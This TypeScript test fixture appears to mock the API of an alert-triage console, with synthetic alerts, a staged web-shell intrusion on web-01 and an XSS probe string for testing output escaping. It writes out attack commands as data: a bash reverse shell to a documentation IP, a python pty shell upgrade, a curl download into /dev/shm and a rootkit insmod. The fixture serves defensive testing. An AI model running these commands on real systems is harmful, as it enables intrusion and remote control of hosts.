// The API's answers that the page is tested with: a python shell on web-01 as an investigation tells of it, a
// long list round it, and an alert whose every field is hostile.
import type {
  AlertListView,
  AlertRow,
  AlertSummaryView,
  AlertView,
  ConditionView,
  SessionView,
  StatusView,
  WhyView,
} from "../../../src/server/console/console-api.ts";
import type { Investigation, ProcessSummary, TreeRow } from "../../../src/triage/investigation.ts";
import type { Asked } from "./page-server.ts";

/** A Wednesday at 02:13:07, UTC. */
export const NOW_MS: number = Date.UTC(2026, 10, 25, 2, 20, 0);
export const ATTACK_MS: number = NOW_MS - 413_000;
export const ATTACK_ID = "9f1c2a".padEnd(64, "0");
export const HOSTILE_ID = "badbad".padEnd(64, "0");

/** Markup, a direction override, an escape sequence, a null and a zero-width space. */
export const HOSTILE: string =
  "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>\u202egnp.exe\u001b[31m\u0000\u200b'\"`&amp;";

const ROWS_COUNT = 1000;

const RULES = [
  ["Interactive Terminal Spawned via Python", "high", 73, "TA0002"],
  ["Suspicious Network Tool Launched Inside A Container", "medium", 47, "TA0008"],
  ["Potential Reverse Shell via Background Process", "high", 73, "TA0011"],
  ["Cron Job Created or Modified", "medium", 47, "TA0003"],
  ["Kernel Module Load from Unusual Location", "critical", 91, "TA0005"],
  ["Hidden Files and Directories via Hidden Flag", "low", 21, "TA0005"],
] as const;

const COMMANDS = [
  `python3 -c 'import pty; pty.spawn("/bin/bash")'`,
  "nmap -sS -p- 10.20.0.0/16 -oG /tmp/.scan",
  "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
  "tee /etc/cron.d/0hourly-sync",
  "insmod /dev/shm/.x/rk.ko",
  "touch /var/tmp/.cache-7f3a",
];

export function alertRow(index: number): AlertRow {
  const [ruleName, severity, riskScore, tactic] = RULES[
    index % RULES.length
  ] as (typeof RULES)[number];
  const isAttack = index === 0;
  return {
    id: isAttack ? ATTACK_ID : index.toString(16).padStart(8, "0").padEnd(64, "e"),
    timeMs: ATTACK_MS - index * 397_000,
    severity,
    riskScore,
    ruleId: `rule-${index % RULES.length}`,
    ruleName,
    reason: `process event with process bash, parent process python3, by www-data on web-01 created ${severity} alert ${ruleName}.`,
    status: index % 7 === 5 ? "acknowledged" : "open",
    hostName: ["web-01", "web-02", "db-primary", "build-7"][index % 4] as string,
    userName: ["www-data", "root", "deploy"][index % 3] as string,
    processName: "bash",
    commandLine: COMMANDS[index % COMMANDS.length] as string,
    tactics: [tactic],
    tags: index % 9 === 1 ? ["case-118"] : [],
    assignees: index % 5 === 1 ? ["mara"] : [],
    suppressedCount: index % 11 === 3 ? 14 : 1,
  };
}

export const HOSTILE_ROW: AlertRow = {
  ...alertRow(1),
  id: HOSTILE_ID,
  ruleName: HOSTILE,
  severity: HOSTILE,
  status: HOSTILE,
  reason: HOSTILE,
  hostName: HOSTILE,
  userName: HOSTILE,
  processName: HOSTILE,
  commandLine: HOSTILE,
  tags: [HOSTILE],
  assignees: [HOSTILE],
};

export const ROWS: readonly AlertRow[] = [
  alertRow(0),
  HOSTILE_ROW,
  ...Array.from({ length: ROWS_COUNT - 2 }, (_, index) => alertRow(index + 1)),
];

export const SESSION: SessionView = {
  account: { name: "mara", role: "admin" },
  version: "0.1.0",
  nowMs: NOW_MS,
  hostName: "web-01",
  canRespond: true,
};

const STATUS: StatusView = {
  eventCount: 1_284_113,
  alertCount: 1000,
  ruleCount: 366,
  sensor: { isRunning: true, text: "Live: processes, files, network (eBPF)." },
  notes: [],
};

/** `extra` rows stand before all others. */
export function pageAnswers(extra: readonly AlertRow[] = []): (asked: Asked) => unknown {
  return ({ method, path, search }) => {
    if (method === "POST" && path === "/alerts/change") return { changedCount: 1 };
    if (method === "POST") return {};
    if (path === "/session") return SESSION;
    if (path === "/status") return STATUS;
    if (path === "/alerts") return listOf([...extra, ...ROWS], search);
    if (path === "/alerts/summary") return summaryOf([...extra, ...ROWS]);
    if (path === `/alerts/${ATTACK_ID}`) return alertView(alertRow(0));
    if (path === `/alerts/${ATTACK_ID}/why`) return WHY;
    if (path === `/alerts/${ATTACK_ID}/investigation`) return INVESTIGATION;
    if (path === `/alerts/${HOSTILE_ID}`) return hostile(alertView(HOSTILE_ROW));
    if (path === `/alerts/${HOSTILE_ID}/why`) return hostile(WHY);
    if (path === `/alerts/${HOSTILE_ID}/investigation`) return hostile(INVESTIGATION);
    return undefined;
  };
}

function listOf(rows: readonly AlertRow[], search: URLSearchParams): AlertListView {
  const text = search.get("text");
  const statuses = search.getAll("status");
  const found = rows.filter(
    (row) =>
      (text === null || row.ruleName.includes(text) || row.commandLine.includes(text)) &&
      (statuses.length === 0 || statuses.includes(row.status) || row.id === HOSTILE_ID),
  );
  const from = Number(search.get("after") ?? 0);
  const size = Number(search.get("size") ?? 200);
  const to = from + size;
  return {
    alerts: found.slice(from, to),
    totalCount: found.length,
    ...(to < found.length ? { after: String(to) } : {}),
  };
}

function summaryOf(rows: readonly AlertRow[]): AlertSummaryView {
  const count = (valueOf: (row: AlertRow) => string, labelOf = valueOf) => {
    const counts = new Map<string, { label: string; count: number }>();
    for (const row of rows) {
      const value = valueOf(row);
      const old = counts.get(value) ?? { label: labelOf(row), count: 0 };
      counts.set(value, { ...old, count: old.count + 1 });
    }
    return [...counts].map(([value, facet]) => ({ value, ...facet }));
  };
  const bars = Array.from({ length: 60 }, (_, index) => ({
    fromMs: NOW_MS - (60 - index) * 7_200_000,
    countBySeverity: {
      high: Math.round(4 + 4 * Math.sin(index / 4)),
      medium: (index * 7) % 9,
      low: (index * 5) % 4,
      critical: index % 23 === 0 ? 2 : 0,
    },
  }));
  return {
    totalCount: rows.length,
    facets: {
      status: count((row) => row.status),
      severity: count((row) => row.severity),
      rule: count(
        (row) => row.ruleId,
        (row) => row.ruleName,
      ),
      host: count((row) => row.hostName),
      user: count((row) => row.userName),
      tactic: count((row) => row.tactics[0] ?? ""),
    },
    histogram: { barMs: 7_200_000, bars },
  };
}

/** The same with every text that is no id or name of a kind hostile. */
function hostile<T>(value: T, key = ""): T {
  const isKept =
    /^(kind|relation|what|role|id|alertId|entityId|parentEntityId|guideHtml|setupHtml|answers|severity)$/.test(
      key,
    );
  if (typeof value === "string") {
    if (key === "guideHtml" || key === "setupHtml") return `${value}<p>${HOSTILE}</p>` as T;
    return (isKept ? value : HOSTILE) as T;
  }
  if (Array.isArray(value)) return value.map((one) => hostile(one, key)) as T;
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => [name, hostile(one, name)]),
  ) as T;
}

const GUIDE_HTML = `<h2>Triage and analysis</h2>
<h3>Investigating Interactive Terminal Spawned via Python</h3>
<p>An attacker who has a plain reverse shell makes it a terminal with <code>pty.spawn</code>.</p>
<h3>Possible investigation steps</h3>
<ul><li>Review the process tree to understand the parent-child relationship.</li>
<li>Examine the command-line arguments of the parent Python process for <code>pty.spawn</code> and <code>-c</code>.</li></ul>
<h3>False positive analysis</h3>
<ul><li>Administrative scripts may match this rule.</li></ul>
<h3>Response and remediation</h3>
<ul><li>Isolate the affected host from the network.</li><li>Terminate the suspicious processes.</li></ul>`;

function alertView(row: AlertRow): AlertView {
  return {
    row,
    document: {
      "@timestamp": new Date(row.timeMs).toISOString(),
      "kibana.alert.uuid": row.id,
      "kibana.alert.reason": row.reason,
      "kibana.alert.severity": row.severity,
      process: {
        args: ["bash"],
        command_line: "bash",
        executable: "/usr/bin/bash",
        pid: 48_213,
        parent: { args: ["python3", "-c", `import pty; pty.spawn("/bin/bash")`], pid: 48_212 },
      },
      host: { name: row.hostName },
      user: { name: row.userName, id: "33" },
    },
    highlighted: [
      { field: "host.name", values: [row.hostName] },
      { field: "user.name", values: [row.userName] },
      { field: "process.executable", values: ["/usr/bin/bash"] },
      { field: "process.parent.command_line", values: [row.commandLine] },
      { field: "process.working_directory", values: ["/var/www/html/uploads"] },
    ],
    guideHtml: GUIDE_HTML,
    setupHtml: "<p>This rule needs process events.</p>",
    description:
      "Identifies when a terminal is spawned via Python. Attackers may upgrade a simple reverse shell to a fully interactive one.",
    falsePositives: ["Administrators who debug with Python."],
    references: ["https://attack.mitre.org/techniques/T1059/"],
    threat: [
      {
        tacticId: "TA0002",
        tacticName: "Execution",
        techniques: [
          { id: "T1059.004", name: "Unix Shell" },
          { id: "T1059.006", name: "Python" },
        ],
      },
    ],
    notes: [{ atMs: ATTACK_MS + 60_000, author: "jo", text: "Looks like the upload form again." }],
    history: [
      {
        atMs: ATTACK_MS + 61_000,
        actor: "jo",
        action: "alert.note",
        subject: row.id,
        detail: { note: "Looks like the upload form again." },
      },
    ],
    blocks: [],
  };
}

interface ProcessPart extends Partial<ProcessSummary> {
  readonly entityId: string;
  readonly name: string;
}

function processOf(part: ProcessPart): ProcessSummary {
  return {
    args: part.commandLine?.split(" ") ?? [part.name],
    commandLine: part.name,
    executable: `/usr/bin/${part.name}`,
    userName: "www-data",
    userId: "33",
    hostName: "web-01",
    hostId: "4c4c",
    workingDirectory: "/var/www/html/uploads",
    startMs: ATTACK_MS,
    alerts: [],
    ...part,
  };
}

const MARK = { id: ATTACK_ID, ruleName: RULES[0][0], severity: "high" };
const PYTHON = `python3 -c import pty; pty.spawn("/bin/bash")`;

const TREE: readonly TreeRow[] = (
  [
    [
      -1,
      "ancestor",
      {
        entityId: "1",
        name: "systemd",
        pid: 1,
        userName: "root",
        userId: "0",
        commandLine: "/sbin/init",
        startMs: ATTACK_MS - 8.64e8,
      },
    ],
    [
      0,
      "ancestor",
      {
        entityId: "2",
        name: "apache2",
        pid: 1032,
        userName: "root",
        userId: "0",
        commandLine: "/usr/sbin/apache2 -k start",
        startMs: ATTACK_MS - 8.6e8,
      },
    ],
    [
      1,
      "ancestor",
      {
        entityId: "3",
        name: "apache2",
        pid: 47_110,
        commandLine: "/usr/sbin/apache2 -k start",
        startMs: ATTACK_MS - 3.4e6,
      },
    ],
    [
      2,
      "ancestor",
      {
        entityId: "4",
        name: "sh",
        pid: 48_199,
        commandLine: "sh -c php /var/www/html/uploads/x.phtml",
        startMs: ATTACK_MS - 90_000,
        args: ["sh", "-c", "php /var/www/html/uploads/x.phtml"],
      },
    ],
    [
      3,
      "ancestor",
      {
        entityId: "5",
        name: "python3",
        pid: 48_212,
        commandLine: PYTHON,
        args: ["python3", "-c", `import pty; pty.spawn("/bin/bash")`],
        startMs: ATTACK_MS - 200,
        isInteractive: false,
      },
    ],
    [
      4,
      "subject",
      {
        entityId: "6",
        name: "bash",
        pid: 48_213,
        commandLine: "bash",
        isInteractive: true,
        alerts: [MARK],
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "7",
        name: "id",
        pid: 48_214,
        commandLine: "id",
        startMs: ATTACK_MS + 4000,
        endMs: ATTACK_MS + 4003,
        exitCode: 0,
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "8",
        name: "uname",
        pid: 48_215,
        commandLine: "uname -a",
        startMs: ATTACK_MS + 6100,
        endMs: ATTACK_MS + 6102,
        exitCode: 0,
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "9",
        name: "curl",
        pid: 48_220,
        commandLine: "curl -sko /dev/shm/.x http://203.0.113.77:8000/x",
        startMs: ATTACK_MS + 31_000,
        endMs: ATTACK_MS + 32_400,
        exitCode: 0,
        alerts: [{ id: "a2", ruleName: "Download to shared memory", severity: "medium" }],
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "10",
        name: ".x",
        pid: 48_226,
        executable: "/dev/shm/.x",
        commandLine: "/dev/shm/.x -d",
        startMs: ATTACK_MS + 40_000,
        alerts: [
          {
            id: "a3",
            ruleName: "Binary Executed from Shared Memory Directory",
            severity: "critical",
          },
        ],
      },
    ],
    [
      9,
      "descendant",
      {
        entityId: "11",
        name: "sh",
        pid: 48_230,
        commandLine: "sh -c crontab -",
        startMs: ATTACK_MS + 44_000,
        endMs: ATTACK_MS + 44_080,
        exitCode: 1,
      },
    ],
    [
      3,
      "sibling",
      {
        entityId: "12",
        name: "ls",
        pid: 48_205,
        commandLine: "ls -la",
        startMs: ATTACK_MS - 60_000,
        endMs: ATTACK_MS - 59_990,
        exitCode: 0,
      },
    ],
  ] as const
).map(([parentIndex, role, part]) => ({
  process: processOf(part as ProcessPart),
  role,
  depth: 0,
  parentIndex,
  cutCount: part.entityId === "3" ? 11 : 0,
}));

function withDepth(rows: readonly TreeRow[]): readonly TreeRow[] {
  const depths: number[] = [];
  return rows.map((row, index) => {
    const depth = row.parentIndex < 0 ? 0 : (depths[row.parentIndex] ?? 0) + 1;
    depths[index] = depth;
    return { ...row, depth };
  });
}

const subject = TREE[5]?.process as ProcessSummary;
const mention = (name: string, pid: number) => ({ name, pid });

const INVESTIGATION: Investigation = {
  alertId: ATTACK_ID,
  summary:
    "www-data, through apache2, started an interactive bash with python3 on web-01 at 02:13:07; 2 processes of it are still running.",
  isOngoing: true,
  subject,
  tree: { rows: withDepth(TREE), subjectIndex: 5, isCut: true },
  commandLine: { text: "bash", marks: [] },
  parentCommandLine: {
    text: PYTHON,
    marks: [
      { start: 8, end: 10, reason: "-c runs code from the command line" },
      { start: 23, end: 45, reason: "pty.spawn makes a plain shell a terminal" },
    ],
  },
  usualTimes: {
    userName: "www-data",
    startMs: ATTACK_MS,
    countByHour: [
      0, 0, 0, 0, 1, 2, 40, 120, 210, 260, 240, 220, 180, 210, 230, 220, 190, 120, 60, 22, 8, 3, 1,
      0,
    ],
    dayCount: 14,
    hosts: [{ value: "web-01", count: 2137 }],
    isUnusualHour: true,
    isUnusualHost: false,
  },
  network: {
    before: [
      {
        timeMs: ATTACK_MS - 89_000,
        action: "connection accepted",
        direction: "ingress",
        protocol: "tcp",
        source: "198.51.100.24:51822",
        destination: "10.0.3.11:443",
        process: mention("apache2", 47_110),
      },
    ],
    after: [
      {
        timeMs: ATTACK_MS + 31_100,
        action: "connection attempted",
        direction: "egress",
        protocol: "tcp",
        source: "10.0.3.11:40122",
        destination: "203.0.113.77:8000",
        domain: "cdn.example.net",
        process: mention("curl", 48_220),
      },
      {
        timeMs: ATTACK_MS + 40_500,
        action: "connection attempted",
        direction: "egress",
        protocol: "tcp",
        source: "10.0.3.11:40140",
        destination: "203.0.113.77:4444",
        process: mention(".x", 48_226),
      },
    ],
  },
  userActivity: {
    userName: "www-data",
    fromMs: ATTACK_MS - 3_600_000,
    toMs: ATTACK_MS + 400_000,
    programs: [
      { value: "/dev/shm/.x", count: 1 },
      { value: "/usr/bin/python3", count: 1 },
      { value: "/usr/bin/curl", count: 2 },
      { value: "/usr/sbin/apache2", count: 41 },
    ],
    logins: [
      {
        timeMs: ATTACK_MS - 900_000,
        outcome: "failure",
        source: "198.51.100.24",
        hostName: "web-01",
      },
    ],
    hosts: [{ value: "web-01", count: 45 }],
  },
  related: [
    {
      id: "a3",
      ruleName: "Binary Executed from Shared Memory Directory",
      severity: "critical",
      timeMs: ATTACK_MS + 40_000,
      status: "open",
      reason: "process event with process .x",
      relation: "tree",
    },
    {
      id: "a2",
      ruleName: "Download to shared memory",
      severity: "medium",
      timeMs: ATTACK_MS + 31_000,
      status: "open",
      reason: "process event with process curl",
      relation: "tree",
    },
    {
      id: "a4",
      ruleName: "Web Server Spawned a Shell",
      severity: "medium",
      timeMs: ATTACK_MS - 90_000,
      status: "acknowledged",
      reason: "process event with process sh",
      relation: "user",
    },
  ],
  files: [
    {
      timeMs: ATTACK_MS - 95_000,
      action: "creation",
      path: "/var/www/html/uploads/x.phtml",
      process: mention("apache2", 47_110),
    },
    {
      timeMs: ATTACK_MS + 31_900,
      action: "creation",
      path: "/dev/shm/.x",
      process: mention("curl", 48_220),
    },
    {
      timeMs: ATTACK_MS + 44_050,
      action: "creation",
      path: "/var/spool/cron/crontabs/tmp.8yQ2",
      process: mention("sh", 48_230),
    },
  ],
  timeline: [
    {
      timeMs: ATTACK_MS - 95_000,
      kind: "file",
      text: "apache2 created /var/www/html/uploads/x.phtml",
      process: mention("apache2", 47_110),
    },
    {
      timeMs: ATTACK_MS - 90_000,
      kind: "process-start",
      text: "sh -c php /var/www/html/uploads/x.phtml",
      process: mention("sh", 48_199),
    },
    {
      timeMs: ATTACK_MS - 89_000,
      kind: "network",
      text: "apache2 accepted 198.51.100.24:51822",
      process: mention("apache2", 47_110),
    },
    {
      timeMs: ATTACK_MS - 200,
      kind: "process-start",
      text: PYTHON,
      process: mention("python3", 48_212),
    },
    { timeMs: ATTACK_MS, kind: "process-start", text: "bash", process: mention("bash", 48_213) },
    {
      timeMs: ATTACK_MS,
      kind: "alert",
      text: "Interactive Terminal Spawned via Python",
      alertId: ATTACK_ID,
    },
    { timeMs: ATTACK_MS + 4000, kind: "process-start", text: "id", process: mention("id", 48_214) },
    {
      timeMs: ATTACK_MS + 31_000,
      kind: "process-start",
      text: "curl -sko /dev/shm/.x http://203.0.113.77:8000/x",
      process: mention("curl", 48_220),
    },
    {
      timeMs: ATTACK_MS + 31_100,
      kind: "network",
      text: "curl connected to 203.0.113.77:8000 (cdn.example.net)",
      process: mention("curl", 48_220),
    },
    {
      timeMs: ATTACK_MS + 40_000,
      kind: "alert",
      text: "Binary Executed from Shared Memory Directory",
      alertId: "a3",
    },
    {
      timeMs: ATTACK_MS + 40_500,
      kind: "network",
      text: ".x connected to 203.0.113.77:4444",
      process: mention(".x", 48_226),
    },
    { timeMs: ATTACK_MS + 60_000, kind: "change", text: "jo added a note" },
  ],
  rarity: [
    {
      what: "parent-child",
      value: "python3 → bash",
      onHostCount: 0,
      everywhereCount: 3,
      hostCount: 1,
      firstMs: ATTACK_MS - 8e8,
      lastMs: ATTACK_MS - 2e8,
      dayCount: 14,
    },
    {
      what: "command-line",
      value: "bash",
      onHostCount: 0,
      everywhereCount: 0,
      hostCount: 0,
      dayCount: 14,
    },
    {
      what: "executable",
      value: "/usr/bin/bash",
      onHostCount: 812,
      everywhereCount: 4210,
      hostCount: 6,
      firstMs: ATTACK_MS - 1.2e9,
      lastMs: ATTACK_MS - 60_000,
      dayCount: 14,
    },
  ],
  guide: {
    steps: [
      {
        text: 'Review the process tree to understand the parent-child relationship, focusing on the parent process named "python*" and the child process that is a shell.',
        answers: ["tree"],
      },
      {
        text: 'Examine the command-line arguments of the parent Python process to identify the use of "pty.spawn" and the presence of the "-c" flag.',
        answers: ["parentCommandLine"],
      },
      {
        text: "Check the process start event details, including the timestamp and user context.",
        answers: ["usualTimes", "userActivity"],
      },
      {
        text: "Investigate the source IP address and user account associated with the process.",
        answers: ["network", "userActivity"],
      },
      {
        text: "Look for any related alerts or logs that might indicate prior suspicious activity.",
        answers: ["related", "timeline"],
      },
      {
        text: "Correlate this activity with any recent changes or incidents reported on the host.",
        answers: [],
      },
    ],
    queries: [
      {
        kind: "investigate",
        label: "Alerts associated with the user",
        description: "What else www-data did",
        eql: `any where user.name == "www-data"`,
        fromMs: ATTACK_MS - 8.64e7,
        toMs: ATTACK_MS + 8.64e7,
      },
      { kind: "osquery", label: "Osquery - Retrieve crontab", query: "SELECT * FROM crontab" },
    ],
  },
  notes: ["11 more children of apache2 (pid 47110) are not shown."],
};

const leaf = (
  text: string,
  isTrue: boolean,
  path: string,
  value: string | number,
): ConditionView => ({
  text,
  isTrue,
  parts: [],
  fields: [{ path, value }],
});

const WHY: WhyView = {
  query: "process where …",
  filters: [
    {
      stage: 0,
      event: { index: "logs-endpoint.events.process", id: "ev1", timeMs: ATTACK_MS },
      tree: {
        text: "and",
        isTrue: true,
        fields: [],
        parts: [
          leaf('host.os.type == "linux"', true, "host.os.type", "linux"),
          leaf('event.type == "start"', true, "event.type", "start"),
          {
            text: "or",
            isTrue: true,
            fields: [],
            parts: [
              {
                text: "and",
                isTrue: true,
                fields: [],
                parts: [
                  leaf('process.parent.name : "python*"', true, "process.parent.name", "python3"),
                  leaf(
                    'process.parent.args : "*pty.spawn*"',
                    true,
                    "process.parent.args",
                    `import pty; pty.spawn("/bin/bash")`,
                  ),
                ],
              },
              {
                text: "and",
                isTrue: false,
                fields: [],
                parts: [
                  leaf("process.parent.args_count == 1", false, "process.parent.args_count", 3),
                ],
              },
            ],
          },
        ],
      },
    },
  ],
};
